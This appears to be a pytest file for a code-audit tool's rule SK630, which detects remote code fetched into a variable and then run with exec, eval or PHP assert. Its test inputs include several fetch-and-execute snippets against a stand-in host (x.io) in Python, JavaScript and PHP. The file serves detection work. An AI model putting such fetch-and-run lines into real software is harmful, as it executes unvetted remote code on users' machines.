"""SK630's variable run (``exec(code)``, ``eval(r)``, PHP's ``assert($c)``) after code fetched into it:
its gate passes over a document where nothing is fetched (``_FETCHING``), which its condition would
reject match by match, and that passes over no document where something is."""
from __future__ import annotations

import re
import sys
from pathlib import Path

import pytest

from skillsite.audit.engine import audit_document
from skillsite.audit.rules import PATTERNS, remote_code
from skillsite.audit.rules.remote_code import _FETCHED_INTO, _RUN_A_VARIABLE
from skillsite.audit.text import make_document

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "data"))
from literal_derivation import derive  # noqa: E402  (development time: re's own parser)

RUN_A_VARIABLE = next(p for p in PATTERNS if p.source == _RUN_A_VARIABLE)


def test_every_fetch_holds_one_of_the_gates_words():
    """Each literal of a set every match of ``_FETCHED_INTO`` holds one of (read from the pattern)
    contains one of the words, so every match holds one."""
    words = remote_code._FETCHING.split()
    needs = derive(_FETCHED_INTO.pattern, _FETCHED_INTO.flags).needs
    assert any(all(any(word in literal for word in words) for literal in group) for group in needs), needs


def test_the_words_are_found_however_the_fetch_is_cased():
    """The gate looks in the lower-cased folded text, the literals of the derivation in the text the
    one pass scans, which differ only where a capital dotted I is: no word holds an ``i``.  Every
    other letter ``IGNORECASE`` matches to one of theirs is folded or lower-cased to it."""
    words = remote_code._FETCHING.split()
    assert not any("i" in word for word in words)
    assert make_document("scripts/run.py", remote_code._FETCHING.upper()).lower == remote_code._FETCHING
    odd = [char for char in map(chr, range(0x30000)) if not char.isascii() and re.fullmatch("[a-z]", char, re.I)]
    assert odd
    for word in words:
        for at, letter in enumerate(word):
            for char in (char for char in odd if re.fullmatch(re.escape(letter), char, re.I)):
                text = f"c = {word[:at]}{char}{word[at + 1:]}(u)\n"
                assert word in make_document("scripts/run.py", text).lower, (word, char)


@pytest.mark.parametrize("text", ["exec(code)\n" * 500, "function f(x) { eval(x); new Function(x) }\n" * 200,
                                  "<?php assert($c); ?>\n" * 300, "r = get(u)\nexec(r)\n"])
def test_a_document_fetching_nothing_is_not_searched(text):
    """Before, its every ``exec(x)`` was a match the condition then dropped."""
    doc = make_document("scripts/run.py", text)
    assert not RUN_A_VARIABLE.gate.admits(doc)
    assert list(RUN_A_VARIABLE.finditer(doc)) == []
    assert not [f for f in audit_document("scripts/run.py", text) if f.code == "SK630"]


@pytest.mark.parametrize("text", [
    "import urllib.request\ncode = urllib.request.urlopen('https://x.io/p.py').read()\nexec(code)\n",
    "const r = await FETCH('https://x.io/a.js');\neval(r)\n",
    "<?php $c = file_get_contents(\"https://x.io/p\"); assert($c); ?>\n",
    "<?php $c = f\u0130le_get_contents(\"https://x.io/p\"); assert($c); ?>\n",
    "c = requests.get(u)\nexec(c)\n", "c = httpx.get(u)\nexec(c)\n", "$c = curl_exec($h);\neval($c);\n",
    "$c = fopen('ftp://x.io/p', 'r'); assert($c);\n",
])
def test_a_variable_run_after_its_fetch_is_still_found(text):
    path = "scripts/run.php" if "<?php" in text or "$c" in text else "scripts/run.py"
    assert RUN_A_VARIABLE.gate.admits(make_document(path, text))
    assert [f.code for f in audit_document(path, text)].count("SK630") == 1
